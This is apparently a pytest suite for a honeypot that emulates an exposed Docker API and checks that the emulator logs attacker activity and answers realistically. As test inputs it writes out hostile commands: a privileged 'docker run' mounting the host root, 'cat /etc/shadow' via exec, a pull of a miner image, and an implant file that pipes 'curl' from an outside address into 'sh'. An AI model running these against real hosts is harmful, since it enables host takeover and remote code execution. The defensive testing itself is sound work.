"""docker_api: the real docker CLI and the Docker SDK for Python against the emulator;
nmap -sV names Docker."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
from pathlib import Path

import docker
import pytest

from tests.emulators.harness import LocalEmulator, nmap_service, require_tools

SERVICE = "docker_api"
PORTS = ["2375/tcp"]
PERSONA = {"hostname": "ci-runner01", "kernel": "6.1.0-21-amd64",
           "versions": {"docker_api": "24.0.7"}}
CONFIG = {"version": "24.0.7"}  # the same version on a deployed decky (its persona differs)


def _docker(target: LocalEmulator, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    require_tools("docker", packages="docker.io")
    env = {**os.environ, "DOCKER_CONFIG": str(tmp_path)}
    env.pop("DOCKER_HOST", None)
    return subprocess.run(["docker", "-H", f"tcp://{target.host}:{target.port(2375)}", *args],
                          capture_output=True, text=True, timeout=30, env=env)


def _raw(target: LocalEmulator, request: bytes) -> bytes:
    with socket.create_connection((target.host, target.port(2375)), timeout=5) as sock:
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return data


def _commands(target: LocalEmulator, action: str) -> list:
    target.events("command", wait=3)
    return [e for e in target.events("command") if e.fields.get("action") == action]


def test_docker_cli_version_and_ps(target: LocalEmulator, tmp_path: Path) -> None:
    out = _docker(target, tmp_path, "version", "--format", "{{json .Server}}")
    assert out.returncode == 0, out.stderr
    server = json.loads(out.stdout)
    assert server["Version"] == "24.0.7"
    assert server["ApiVersion"] == "1.43"
    assert re.fullmatch(r"6\.1\.0-\d+-amd64", server["KernelVersion"])  # the persona's
    assert server["Os"] == "linux"
    assert server["GitCommit"] == "311b9ff"
    first = _docker(target, tmp_path, "ps", "--format", "{{.Names}} {{.Image}} {{.Status}}")
    assert first.returncode == 0, first.stderr
    rows = first.stdout.splitlines()
    assert len(rows) >= 2 and all(" Up " in row for row in rows)
    assert _docker(target, tmp_path, "ps", "--format",
                   "{{.Names}} {{.Image}} {{.Status}}").stdout.splitlines() == rows
    listing = _docker(target, tmp_path, "ps", "-a", "-q").stdout.split()
    assert len(listing) >= len(rows)
    requests = target.events("request", wait=3)
    assert any(e.fields["path"] == "/v1.43/containers/json" and e.src_ip == target.source
               for e in requests)


def test_docker_run_is_recorded_and_fails_at_start(target: LocalEmulator,
                                                   tmp_path: Path) -> None:
    out = _docker(target, tmp_path, "run", "-d", "--privileged", "-v", "/:/host", "alpine",
                  "chroot", "/host", "sh", "-c", "id")
    assert out.returncode == 125
    assert "Error response from daemon" in out.stderr
    assert "OCI runtime create failed" in out.stderr
    (create,) = _commands(target, "container.create")
    assert create.src_ip == target.source
    assert create.fields["image"] == "alpine"
    assert create.fields["privileged"] == "true"
    assert json.loads(create.fields["binds"]) == ["/:/host"]
    assert json.loads(create.fields["cmd"]) == ["chroot", "/host", "sh", "-c", "id"]
    assert create.fields["command"].startswith("docker run --privileged -v /:/host alpine")
    assert _commands(target, "container.start")
    created = _docker(target, tmp_path, "ps", "-a", "--filter", "status=created", "-q")
    assert created.returncode == 0


def test_docker_run_of_unknown_image_pulls_and_fails(target: LocalEmulator,
                                                     tmp_path: Path) -> None:
    out = _docker(target, tmp_path, "run", "--rm", "evil/miner:latest")
    assert out.returncode == 125
    assert "Unable to find image 'evil/miner:latest' locally" in out.stderr
    assert "registry-1.docker.io" in out.stderr
    (pull,) = _commands(target, "image.pull")
    assert "evil/miner" in pull.fields["image"]


def test_docker_sdk_exec_and_registry_login(target: LocalEmulator) -> None:
    client = docker.DockerClient(base_url=f"tcp://{target.host}:{target.port(2375)}",
                                 version="auto", timeout=10)
    try:
        assert re.fullmatch(r"6\.1\.0-\d+-amd64", client.version()["KernelVersion"])
        assert client.info()["Name"] == "ci-runner01"
        running = client.containers.list()
        assert running
        result = running[0].exec_run(["cat", "/etc/shadow"])
        assert result.exit_code == 126
        assert b"OCI runtime exec failed" in result.output
        with pytest.raises(docker.errors.APIError) as failed:
            client.images.pull("registry.corp.internal/app", tag="1.2",
                               auth_config={"username": "ci", "password": "hunter2"})
        assert failed.value.status_code == 500
        with pytest.raises(docker.errors.NotFound):
            client.containers.get("does-not-exist")
    finally:
        client.close()
    (exec_event,) = _commands(target, "container.exec")
    assert json.loads(exec_event.fields["cmd"]) == ["cat", "/etc/shadow"]
    assert exec_event.fields["container"] == running[0].name
    logins = target.events("login", wait=3)
    assert any(e.fields.get("mech") == "registry" and e.fields.get("username") == "ci"
               and e.fields.get("password") == "hunter2" and e.src_ip == target.source
               for e in logins)


def test_ping_headers_and_unknown_paths(target: LocalEmulator) -> None:
    ping = _raw(target, b"GET /_ping HTTP/1.0\r\n\r\n")
    head, _, body = ping.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 200 OK\r\nApi-Version: 1.43\r\n")
    assert b"\r\nServer: Docker/24.0.7 (linux)\r\n" in head
    assert b"\r\nOstype: linux\r\n" in head and body == b"OK"
    missing = _raw(target, b"GET /nope HTTP/1.0\r\n\r\n")
    head, _, body = missing.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\n")
    assert b"Api-Version" not in head
    assert body == b'{"message":"page not found"}\n'
    info = _raw(target, b"GET /info HTTP/1.0\r\n\r\n")  # past 2 KiB: Go ends it with the
    head, _, body = info.partition(b"\r\n\r\n")      # connection, no length, no chunks
    assert b"Content-Length" not in head and b"Transfer-Encoding" not in head
    assert json.loads(body)["Name"] == "ci-runner01"
    too_new = _raw(target, b"GET /v1.99/version HTTP/1.0\r\n\r\n")
    assert b"400 Bad Request" in too_new.split(b"\r\n", 1)[0]
    assert b"Maximum supported API version is 1.43" in too_new


def test_nmap_names_docker(target: LocalEmulator) -> None:
    require_tools("nmap", packages="nmap")
    line = nmap_service(target.host, target.port(2375), intensity=7)  # nmap's default
    assert "Docker 24.0.7" in line, line


def test_docker_cp_into_a_container_is_a_transfer(target: LocalEmulator,
                                                  tmp_path: Path) -> None:
    payload = tmp_path / "implant.sh"
    payload.write_text("curl -s http://203.0.113.9/x | sh\n")
    name = _docker(target, tmp_path, "ps", "--format", "{{.Names}}").stdout.split()[0]
    out = _docker(target, tmp_path, "cp", str(payload), f"{name}:/tmp/")
    assert out.returncode == 0, out.stderr
    (transfer,) = target.events("transfer", wait=3)
    assert transfer.fields["direction"] == "upload"
    assert transfer.fields["files"] == "implant.sh"
    assert transfer.fields["file_bytes"] == str(len(payload.read_bytes()))
    assert transfer.fields["container"] == name
    assert transfer.src_ip == target.source


def test_docker_login_is_recorded(target: LocalEmulator, tmp_path: Path) -> None:
    require_tools("docker", packages="docker.io")
    env = {**os.environ, "DOCKER_CONFIG": str(tmp_path)}
    out = subprocess.run(["docker", "-H", f"tcp://{target.host}:{target.port(2375)}", "login",
                          "registry.corp.internal", "-u", "deploy", "--password-stdin"],
                         input="S3cret!\n", capture_output=True, text=True, timeout=30, env=env)
    assert out.returncode == 1
    assert "Error response from daemon" in out.stderr
    assert "registry.corp.internal" in out.stderr
    logins = target.events("login", wait=3)
    assert [(e.fields["username"], e.fields["password"], e.fields["mech"]) for e in logins] == \
        [("deploy", "S3cret!", "registry")]
    assert logins[0].src_ip == target.source
